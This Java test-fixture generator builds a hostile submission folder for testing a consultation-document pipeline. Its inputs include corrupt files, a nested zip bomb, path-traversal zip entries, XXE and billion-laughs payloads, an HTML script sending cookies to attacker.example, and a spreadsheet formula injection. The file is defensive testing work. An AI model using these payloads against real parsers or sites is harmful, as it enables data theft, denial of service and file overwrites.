@@ -1,0 +1,451 @@
+package eu.chorus.hostile;
+
+import java.awt.Color;
+import java.awt.Font;
+import java.awt.Graphics2D;
+import java.awt.RenderingHints;
+import java.awt.image.BufferedImage;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.OutputStream;
+import java.io.Writer;
+import java.nio.charset.Charset;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.Base64;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.Random;
+import java.util.zip.ZipEntry;
+import java.util.zip.ZipOutputStream;
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVPrinter;
+import org.apache.pdfbox.pdmodel.PDDocument;
+import org.apache.pdfbox.pdmodel.PDPage;
+import org.apache.pdfbox.pdmodel.PDPageContentStream;
+import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
+import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
+import org.apache.pdfbox.pdmodel.font.PDType1Font;
+import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
+import org.apache.pdfbox.pdmodel.graphics.image.LosslessFactory;
+import org.apache.pdfbox.pdmodel.graphics.image.PDImageXObject;
+
+/**
+ * Writes the hostile export ({@code data-samples/hostile/}): an export folder whose files are
+ * broken, malicious or awkward in the ways real consultation inboxes are, one submission per file
+ * so that the manifest shows what became of each. The two big files (a text of at least 100 MB,
+ * a PDF of thousands of pages) are written only on request, at test time, never committed.
+ *
+ * <p>Regenerate the committed folder with
+ * {@code mvn -B -q -o -pl jobs test-compile exec:java -Dexec.classpathScope=test
+ * -Dexec.mainClass=eu.chorus.hostile.HostileCorpus -Dexec.args=../data-samples/hostile}.
+ *
+ * <p>The XXE payloads point at {@link #CANARY_FILE} beside the export: a test writes a secret
+ * there and checks that it appears in no output.
+ */
+public final class HostileCorpus {
+
+  /** Relative to the export folder: the local file the XXE payloads try to read. */
+  public static final String CANARY_FILE = "xxe-canary.txt";
+  /** What the canary file holds; it must never appear in an output. */
+  public static final String CANARY_SECRET = "CANARY-XXE-SECRET-4417";
+
+  /** Personal data planted in anonymous submissions; none may appear in any output. */
+  public static final List<String> PERSONAL_CANARIES = List.of(
+      "Margarethe Vollenweider", "Quentin Abernathy-Holt", "m.vollenweider@example-mail.eu",
+      "q.abernathy@privatebox.example", "+49 30 5557 1234", "+33 1 55 44 33 22", "Vollenweider", "Abernathy");
+  /** The organisation of a PUBLIC respondent: it must stay in submissions.csv. */
+  public static final String PUBLIC_ORGANISATION = "Open Models Alliance Europe";
+  /** The organisation of an ANONYMOUS respondent: it must not appear in any output. */
+  public static final String ANONYMOUS_ORGANISATION = "Haldane Robotics Cooperative";
+
+  /** A PUBLIC organisation name that a spreadsheet would evaluate as a formula. */
+  public static final String FORMULA_ORGANISATION = "=HYPERLINK(\"https://attacker.example\",\"Open\")";
+
+  private static final String TEXT = "We support the transparency measures of the draft Code of Practice. "
+      + "Providers of general-purpose AI models should document their training data and publish a "
+      + "summary of the copyright policy they follow.";
+
+  private final Path root;
+  private final Path files;
+  private final Map<String, List<String>> submissions = new LinkedHashMap<>();
+  private final Map<String, String[]> meta = new LinkedHashMap<>();
+  private final Random random = new Random(20240730L);
+
+  private HostileCorpus(Path root) throws IOException {
+    this.root = root;
+    this.files = root.resolve("files");
+    Files.createDirectories(files);
+  }
+
+  /** Writes the small hostile export into {@code root}; returns the files written, relative to files/. */
+  public static List<String> writeSmall(Path root) throws IOException {
+    HostileCorpus c = new HostileCorpus(root);
+    c.writeAll();
+    c.writeMetadata();
+    return c.listed();
+  }
+
+  /**
+   * Writes the small export plus the big files (a text of {@code bigTextMb} MB and a PDF of
+   * {@code pdfPages} pages).
+   */
+  public static List<String> writeWithBigFiles(Path root, int bigTextMb, int pdfPages) throws IOException {
+    HostileCorpus c = new HostileCorpus(root);
+    c.writeAll();
+    c.bigText("HX-BIG-TEXT", "huge-submission.txt", bigTextMb);
+    c.manyPagesPdf("HX-BIG-PDF", "thousands-of-pages.pdf", pdfPages);
+    c.writeMetadata();
+    return c.listed();
+  }
+
+  public static void main(String[] args) throws IOException {
+    Path out = Path.of(args.length > 0 ? args[0] : "data-samples/hostile");
+    List<String> written = writeSmall(out);
+    System.out.println(written.size() + " hostile files written to " + out);
+  }
+
+  private void writeAll() throws IOException {
+    byte[] pdf = textPdf(TEXT, 3);
+    byte[] docx = docx(paragraphs(TEXT, "Transparency obligations must be proportionate for small providers."), "");
+    put("HX-01", "corrupt.pdf", corrupt(pdf));
+    put("HX-02", "truncated.pdf", java.util.Arrays.copyOf(pdf, pdf.length * 3 / 5));
+    put("HX-03", "corrupt.docx", corrupt(docx));
+    put("HX-04", "truncated.docx", java.util.Arrays.copyOf(docx, docx.length / 2));
+    put("HX-05", "encrypted-user-password.pdf", encryptedPdf("owner-secret", "user-secret"));
+    put("HX-06", "encrypted-owner-password-only.pdf", encryptedPdf("owner-secret", ""));
+    put("HX-07", "empty.pdf", new byte[0]);
+    put("HX-08", "binary-junk.pdf", junk(64 * 1024));
+    put("HX-09", "actually-a-word-file.pdf", docx);
+    put("HX-10", "windows-1252.txt", encoded(
+        "Réponse à la consultation : nous soutenons l’obligation de transparence – coût estimé 5 000 €.\n\n"
+            + "Les fournisseurs doivent publier un résumé des données d’entraînement.", Charset.forName("windows-1252")));
+    put("HX-11", "utf-16.txt", utf16("Stellungnahme: Wir begrüßen die Transparenzpflichten für Anbieter "
+        + "von KI-Modellen mit allgemeinem Verwendungszweck. Größere Anbieter müssen mehr tun."));
+    put("HX-12", "nested-zip-bomb.zip", zipBomb());
+    put("HX-13", "path-traversal.zip", traversalZip());
+    put("HX-14", "xxe.docx", docx(paragraphs(TEXT, "Secret follows: &xxe;"), xxeDoctype("w:document")));
+    put("HX-15", "billion-laughs.docx", docx(paragraphs(TEXT, "&lol9;"), laughsDoctype("w:document")));
+    put("HX-16", "xxe.svg", utf8("<?xml version=\"1.0\"?>\n" + xxeDoctype("svg")
+        + "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"200\" height=\"50\"><title>Our position</title>"
+        + "<text x=\"0\" y=\"20\">" + TEXT + " &xxe;</text></svg>\n"));
+    put("HX-17", "billion-laughs.svg", utf8("<?xml version=\"1.0\"?>\n" + laughsDoctype("svg")
+        + "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>" + TEXT + " &lol9;</text></svg>\n"));
+    put("HX-18", "xxe.xml", utf8("<?xml version=\"1.0\"?>\n" + xxeDoctype("response")
+        + "<response><position>" + TEXT + "</position><note>&xxe;</note></response>\n"));
+    put("HX-19", "billion-laughs.xml", utf8("<?xml version=\"1.0\"?>\n" + laughsDoctype("response")
+        + "<response><position>" + TEXT + "</position><note>&lol9;</note></response>\n"));
+    put("HX-20", "scripts-and-handlers.html", utf8("<!DOCTYPE html><html><head><title>Response</title>"
+        + "<script>fetch('https://attacker.example/steal?c='+document.cookie)</script></head>"
+        + "<body onload=\"alert('onload')\"><h1>Our response</h1><p>" + TEXT + "</p>"
+        + "<img src=\"x\" onerror=\"alert('onerror')\"><a href=\"javascript:alert('link')\">Annex</a>"
+        + "<script>document.write('<p>INJECTED-BY-SCRIPT</p>')</script>"
+        + "<p onclick=\"alert('click')\">Small providers need proportionate obligations.</p></body></html>\n"));
+    put("HX-21", "nested-attachments.eml", utf8(nestedEml()));
+    put("HX-22", "scanned-image-only.pdf", scannedPdf("Whistleblower protection must be strengthened."));
+    put("HX-23", "position paper (final version).txt", utf8(TEXT));
+    put("HX-24", "prise de position – réponse à l’AI Office.txt", utf8(
+        "Nous demandons des obligations proportionnées pour les petites entreprises européennes."));
+    put("HX-25", "line\nbreak in name.txt", utf8(TEXT));
+    put("HX-26", "formula-injection.txt", utf8("=HYPERLINK(\"https://attacker.example\",\"click\")\n\n" + TEXT));
+    meta.put("HX-26", new String[] {"OTHER", FORMULA_ORGANISATION, "BE", "en", "PUBLIC"});
+    personalData();
+    Files.writeString(root.resolve(CANARY_FILE), CANARY_SECRET + "\n", StandardCharsets.UTF_8);
+  }
+
+  /** Planted personal data: an anonymous respondent names people, e-mails and phones; a public one its organisation. */
+  private void personalData() throws IOException {
+    String anonymous = "Response submitted on behalf of " + ANONYMOUS_ORGANISATION + ".\n\n"
+        + "My name is Margarethe Vollenweider and I lead our compliance team together with "
+        + "Quentin Abernathy-Holt. We support the transparency measures of the draft Code. "
+        + "Providers should document their training data.\n\n"
+        + "For questions, write to m.vollenweider@example-mail.eu or q.abernathy@privatebox.example, "
+        + "or call +49 30 5557 1234 or +33 1 55 44 33 22. Margarethe Vollenweider will answer.";
+    put("HX-PII-ANON", "anonymous-response.txt", utf8(anonymous));
+    meta.put("HX-PII-ANON", new String[] {"COMPANY", ANONYMOUS_ORGANISATION, "DE", "en", "ANONYMOUS"});
+    String open = "Response of the " + PUBLIC_ORGANISATION + ".\n\n"
+        + "The " + PUBLIC_ORGANISATION + " supports the copyright policy measures of the draft Code.";
+    put("HX-PII-PUBLIC", "public-response.txt", utf8(open));
+    meta.put("HX-PII-PUBLIC", new String[] {"NGO", PUBLIC_ORGANISATION, "BE", "en", "PUBLIC"});
+  }
+
+  private void put(String submission, String name, byte[] content) throws IOException {
+    String relative = submission + "/" + name;
+    Path target = files.resolve(relative);
+    Files.createDirectories(target.getParent());
+    Files.write(target, content);
+    submissions.computeIfAbsent(submission, k -> new ArrayList<>()).add(relative);
+  }
+
+  private List<String> listed() {
+    return submissions.values().stream().flatMap(List::stream).sorted().toList();
+  }
+
+  private void writeMetadata() throws IOException {
+    try (Writer w = Files.newBufferedWriter(root.resolve("submissions.csv"), StandardCharsets.UTF_8);
+        CSVPrinter p = new CSVPrinter(w, CSVFormat.RFC4180)) {
+      p.printRecord("submission_id", "submitted_at", "respondent_type", "organisation", "country", "language",
+          "consent", "files");
+      for (Map.Entry<String, List<String>> e : submissions.entrySet()) {
+        String[] m = meta.getOrDefault(e.getKey(), new String[] {"OTHER", "Hostile Test " + e.getKey(), "BE", "", "PUBLIC"});
+        p.printRecord(e.getKey(), "2024-07-30T10:00:00Z", m[0], m[1], m[2], m[3], m[4], String.join(";", e.getValue()));
+      }
+    }
+  }
+
+  // ---- formats
+
+  private static byte[] utf8(String s) {
+    return s.getBytes(StandardCharsets.UTF_8);
+  }
+
+  private static byte[] encoded(String s, Charset charset) {
+    return s.getBytes(charset);
+  }
+
+  private static byte[] utf16(String s) {
+    // getBytes(UTF_16) writes a big-endian byte-order mark first.
+    return s.getBytes(StandardCharsets.UTF_16);
+  }
+
+  private byte[] junk(int size) {
+    byte[] b = new byte[size];
+    random.nextBytes(b);
+    return b;
+  }
+
+  /** Overwrites a stretch in the middle of the file with random bytes. */
+  private byte[] corrupt(byte[] good) {
+    byte[] b = good.clone();
+    int from = b.length / 3;
+    byte[] noise = junk(Math.max(16, b.length / 3));
+    System.arraycopy(noise, 0, b, from, Math.min(noise.length, b.length - from));
+    return b;
+  }
+
+  static byte[] textPdf(String text, int pages) throws IOException {
+    try (PDDocument doc = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
+      writePages(doc, text, pages);
+      doc.save(out);
+      return out.toByteArray();
+    }
+  }
+
+  private static void writePages(PDDocument doc, String text, int pages) throws IOException {
+    PDType1Font font = new PDType1Font(Standard14Fonts.FontName.HELVETICA);
+    for (int i = 1; i <= pages; i++) {
+      PDPage page = new PDPage();
+      doc.addPage(page);
+      try (PDPageContentStream s = new PDPageContentStream(doc, page)) {
+        s.beginText();
+        s.setFont(font, 10);
+        s.newLineAtOffset(50, 700);
+        s.showText("Page " + i + ". " + text.substring(0, Math.min(text.length(), 90)));
+        s.newLineAtOffset(0, -14);
+        s.showText(text.substring(Math.min(text.length(), 90), Math.min(text.length(), 180)));
+        s.endText();
+      }
+    }
+  }
+
+  private static byte[] encryptedPdf(String ownerPassword, String userPassword) throws IOException {
+    try (PDDocument doc = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
+      writePages(doc, TEXT, 2);
+      StandardProtectionPolicy policy = new StandardProtectionPolicy(ownerPassword, userPassword, new AccessPermission());
+      policy.setEncryptionKeyLength(128);
+      doc.protect(policy);
+      doc.save(out);
+      return out.toByteArray();
+    }
+  }
+
+  /** An image-only PDF page showing {@code line}: text only OCR can read. */
+  public static byte[] scannedPdf(String line) throws IOException {
+    BufferedImage image = new BufferedImage(1275, 400, BufferedImage.TYPE_BYTE_GRAY);
+    Graphics2D g = image.createGraphics();
+    g.setColor(Color.WHITE);
+    g.fillRect(0, 0, image.getWidth(), image.getHeight());
+    g.setColor(Color.BLACK);
+    g.setRenderingHint(RenderingHints.KEY_TEXT_ANTIALIASING, RenderingHints.VALUE_TEXT_ANTIALIAS_ON);
+    g.setFont(new Font(Font.SERIF, Font.PLAIN, 40));
+    g.drawString(line, 60, 200);
+    g.dispose();
+    try (PDDocument doc = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
+      PDPage page = new PDPage();
+      doc.addPage(page);
+      PDImageXObject scan = LosslessFactory.createFromImage(doc, image);
+      try (PDPageContentStream s = new PDPageContentStream(doc, page)) {
+        s.drawImage(scan, 0, 500, 612, 192);
+      }
+      doc.save(out);
+      return out.toByteArray();
+    }
+  }
+
+  private static String paragraphs(String... texts) {
+    StringBuilder b = new StringBuilder();
+    for (String t : texts) {
+      b.append("<w:p><w:r><w:t>").append(t).append("</w:t></w:r></w:p>");
+    }
+    return b.toString();
+  }
+
+  /** A minimal WordprocessingML package; {@code doctype} goes before the document element. */
+  private static byte[] docx(String body, String doctype) throws IOException {
+    Map<String, String> parts = new LinkedHashMap<>();
+    parts.put("[Content_Types].xml", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
+        + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
+        + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
+        + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
+        + "<Override PartName=\"/word/document.xml\" "
+        + "ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>");
+    parts.put("_rels/.rels", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
+        + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+        + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" "
+        + "Target=\"word/document.xml\"/></Relationships>");
+    parts.put("word/document.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>" + doctype
+        + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>"
+        + body + "</w:body></w:document>");
+    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
+      for (Map.Entry<String, String> p : parts.entrySet()) {
+        entry(zip, p.getKey(), utf8(p.getValue()));
+      }
+    }
+    return bytes.toByteArray();
+  }
+
+  private String xxeDoctype(String rootElement) {
+    String canary = root.toAbsolutePath().resolve(CANARY_FILE).toUri().toString();
+    return "<!DOCTYPE " + rootElement + " [<!ENTITY xxe SYSTEM \"" + canary + "\">]>";
+  }
+
+  private static String laughsDoctype(String rootElement) {
+    StringBuilder b = new StringBuilder("<!DOCTYPE " + rootElement + " [<!ENTITY lol0 \"lol\">");
+    for (int i = 1; i <= 9; i++) {
+      String prev = "&lol" + (i - 1) + ";";
+      b.append("<!ENTITY lol").append(i).append(" \"").append(prev.repeat(10)).append("\">");
+    }
+    return b.append("]>").toString();
+  }
+
+  private static void entry(ZipOutputStream zip, String name, byte[] content) throws IOException {
+    zip.putNextEntry(new ZipEntry(name));
+    zip.write(content);
+    zip.closeEntry();
+  }
+
+  /** Five archives of five archives of a 20 MB text each: 0.5 GB from a few hundred kilobytes. */
+  private static byte[] zipBomb() throws IOException {
+    byte[] inner = zipOf("filler.txt", "a".repeat(20 * 1024 * 1024).getBytes(StandardCharsets.US_ASCII));
+    ByteArrayOutputStream middle = new ByteArrayOutputStream();
+    try (ZipOutputStream zip = new ZipOutputStream(middle)) {
+      for (int i = 0; i < 5; i++) {
+        entry(zip, "part-" + i + ".zip", inner);
+      }
+    }
+    ByteArrayOutputStream outer = new ByteArrayOutputStream();
+    try (ZipOutputStream zip = new ZipOutputStream(outer)) {
+      for (int i = 0; i < 5; i++) {
+        entry(zip, "volume-" + i + ".zip", middle.toByteArray());
+      }
+    }
+    return outer.toByteArray();
+  }
+
+  private static byte[] zipOf(String name, byte[] content) throws IOException {
+    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
+      entry(zip, name, content);
+    }
+    return bytes.toByteArray();
+  }
+
+  private static byte[] traversalZip() throws IOException {
+    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
+      entry(zip, "letter.txt", utf8(TEXT));
+      entry(zip, "../../../../tmp/chorus-escaped.txt", utf8("TRAVERSAL-PAYLOAD escaped the archive folder"));
+      entry(zip, "annex/../../outside.txt", utf8("TRAVERSAL-PAYLOAD second escape"));
+      entry(zip, "/etc/chorus-absolute.txt", utf8("TRAVERSAL-PAYLOAD absolute path"));
+    }
+    return bytes.toByteArray();
+  }
+
+  private static String nestedEml() throws IOException {
+    String annexZip = Base64.getMimeEncoder().encodeToString(zipOf("annex/position.txt",
+        utf8("Annex: codes of practice should be reviewed every two years.")));
+    String docx = Base64.getMimeEncoder().encodeToString(docx(paragraphs(
+        "Forwarded attachment: we oppose mandatory watermarking of all outputs."), ""));
+    return String.join("\r\n",
+        "From: Consultation Desk <desk@consultation.example>",
+        "To: AI Office <ai-office@consultation.example>",
+        "Subject: Our response with annexes",
+        "Date: Tue, 30 Jul 2024 10:00:00 +0200",
+        "MIME-Version: 1.0",
+        "Content-Type: multipart/mixed; boundary=\"outer-boundary\"",
+        "",
+        "--outer-boundary",
+        "Content-Type: text/plain; charset=UTF-8",
+        "",
+        TEXT,
+        "--outer-boundary",
+        "Content-Type: message/rfc822",
+        "Content-Disposition: attachment; filename=\"forwarded.eml\"",
+        "",
+        "From: Member <member@consultation.example>",
+        "Subject: Fwd: annex",
+        "MIME-Version: 1.0",
+        "Content-Type: multipart/mixed; boundary=\"inner-boundary\"",
+        "",
+        "--inner-boundary",
+        "Content-Type: text/plain; charset=UTF-8",
+        "",
+        "Inner message: see the two attachments.",
+        "--inner-boundary",
+        "Content-Type: application/zip; name=\"annex.zip\"",
+        "Content-Transfer-Encoding: base64",
+        "Content-Disposition: attachment; filename=\"annex.zip\"",
+        "",
+        annexZip,
+        "--inner-boundary",
+        "Content-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document; name=\"note.docx\"",
+        "Content-Transfer-Encoding: base64",
+        "Content-Disposition: attachment; filename=\"note.docx\"",
+        "",
+        docx,
+        "--inner-boundary--",
+        "--outer-boundary--",
+        "");
+  }
+
+  // ---- big files, test time only
+
+  private void bigText(String submission, String name, int megabytes) throws IOException {
+    String relative = submission + "/" + name;
+    Path target = files.resolve(relative);
+    Files.createDirectories(target.getParent());
+    byte[] paragraph = utf8(TEXT + "\n\n");
+    long want = (long) megabytes * 1024 * 1024;
+    try (OutputStream out = new java.io.BufferedOutputStream(Files.newOutputStream(target), 1 << 20)) {
+      for (long written = 0; written < want; written += paragraph.length) {
+        out.write(paragraph);
+      }
+    }
+    submissions.computeIfAbsent(submission, k -> new ArrayList<>()).add(relative);
+  }
+
+  private void manyPagesPdf(String submission, String name, int pages) throws IOException {
+    String relative = submission + "/" + name;
+    Path target = files.resolve(relative);
+    Files.createDirectories(target.getParent());
+    try (PDDocument doc = new PDDocument()) {
+      writePages(doc, TEXT, pages);
+      doc.save(target.toFile());
+    }
+    submissions.computeIfAbsent(submission, k -> new ArrayList<>()).add(relative);
+  }
+}
